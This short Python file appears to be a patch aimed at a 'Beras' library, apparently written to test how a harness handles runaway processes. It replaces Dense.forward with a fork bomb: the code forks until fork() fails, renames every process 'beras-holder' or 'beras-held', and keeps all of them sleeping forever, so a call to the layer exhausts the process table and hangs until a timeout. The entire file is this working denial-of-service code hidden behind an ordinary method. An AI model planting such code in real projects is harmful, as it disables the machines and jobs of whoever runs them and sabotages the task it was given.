# target: Beras/layers.py
# Dense.forward forks until fork() fails and holds every process (named beras-holder);
# then it renames itself beras-held and waits for ever: its item only ends at its timeout.
import ctypes as _ctypes
import os as _os
import time as _time

_PR_SET_NAME = 15


def _hold(*_args, **_kwargs):
    libc = _ctypes.CDLL(None)
    while True:
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            libc.prctl(_PR_SET_NAME, b"beras-holder", 0, 0, 0)
            while True:
                _time.sleep(3600)
    libc.prctl(_PR_SET_NAME, b"beras-held", 0, 0, 0)
    while True:
        _time.sleep(3600)


Dense.forward = _hold
